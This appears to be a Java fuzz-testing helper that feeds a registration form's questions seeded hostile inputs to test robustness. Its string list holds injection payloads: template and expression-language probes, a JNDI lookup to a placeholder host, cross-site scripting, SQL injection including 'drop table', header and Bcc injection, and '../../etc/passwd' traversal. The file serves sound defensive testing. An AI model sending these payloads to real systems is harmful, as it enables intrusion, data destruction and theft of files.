package fr.jumelages.registration;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** What somebody may send who means harm, drawn from a seeded source. */
final class Hostility {

    private static final int MEGABYTE = 1_000_000;

    private static final List<String> QUESTIONS = Stream.of(Segment.values())
            .flatMap(segment -> segment.page().questions().stream())
            .map(question -> question.name())
            .toList();

    private static final List<String> TEXTS = List.of(
            "${913*877}",
            "#{913*877}",
            "*{913*877}",
            "~{913*877}",
            "@{913*877}",
            "[[${913*877}]]",
            "[(${913*877})]",
            "__${913*877}__::.x",
            "{{913*877}}",
            "<%= 913*877 %>",
            "=913*877",
            "{913*877}",
            "T(java.lang.Runtime).getRuntime()",
            "${T(java.lang.System).exit(1)}",
            "#{execution.setVariable('x',1)}",
            "${jndi:ldap://zq.example/a}",
            "<script>zq</script>",
            "<img src=zq onerror=zq>",
            "<svg onload=zq>",
            "\" onmouseover=\"zq",
            "'><b zq",
            "</textarea><i zq>",
            "javascript:zq",
            "&lt;script&gt;zq",
            "' or 1=1 --",
            "'; drop table registration_draft; --",
            "x\r\nX-Zq: 1",
            "x\nX-Zq: 1\n\n<script>zq",
            "%0d%0aX-Zq:%201",
            "a@b.example\r\nBcc: c@d.example",
            "\u0000",
            "\ud800",
            "\udc00\ud800",
            "\u202egnp.exe",
            "e\u0301\u0301\u0301\u0301",
            "\ufeff",
            "\uffff",
            "🏡👵🏽",
            "ﷺ",
            "İı",
            "٧٥٠٧١٢١٨٤",
            "９９９９９９９９９",
            "-1",
            "1e308",
            "NaN",
            "Infinity",
            "99999999999999999999",
            "0x1F",
            "1_000",
            "+12",
            "1.5",
            "null",
            "undefined",
            "true",
            "[]",
            "{}",
            "{\"a\":1}",
            "EHPAD\u0000",
            "ehpad",
            "SCHOOL,ASSOCIATION",
            "OTHER",
            "../../etc/passwd",
            "..%2f..%2f",
            "%c0%ae",
            "%",
            "%%",
            "%s%n",
            "{0}",
            "{0,choice,",
            "'{0}",
            "\\",
            "\t\t\t",
            " ",
            "");

    private final Random random;

    Hostility(Random random) {
        this.random = random;
    }

    /** One request in 250 carries a megabyte. */
    String text(int i) {
        return i % 250 == 0 ? "é".repeat(MEGABYTE / 2) : text();
    }

    /** The questions that are answered at all, and some that nobody asked. */
    List<String> questions() {
        List<String> asked = new ArrayList<>(QUESTIONS);
        asked.removeIf(question -> random.nextInt(4) == 0);
        asked.addAll(List.of("confirmedNumbers", "class.module", "_refresh", "garder")
                .subList(0, random.nextInt(5)));
        return asked;
    }

    /** Once, repeated, or far too often. */
    String[] answers(String question) {
        int often = random.nextInt(50) == 0 ? 500 : 1 + random.nextInt(3);
        return Stream.generate(this::text).limit(often).toArray(String[]::new);
    }

    String pathPart(int i) {
        return text(i).length() > 5_000 ? "a".repeat(5_000) : text();
    }

    private String text() {
        return switch (random.nextInt(12)) {
            case 0 -> noise();
            case 1 -> TEXTS.get(random.nextInt(TEXTS.size())).repeat(1 + random.nextInt(300));
            case 2 -> TEXTS.get(random.nextInt(TEXTS.size())) + TEXTS.get(random.nextInt(TEXTS.size()));
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    private String noise() {
        char[] characters = new char[random.nextInt(200)];
        for (int i = 0; i < characters.length; i++) {
            characters[i] = (char) random.nextInt(0x10000);
        }
        return new String(characters);
    }
}
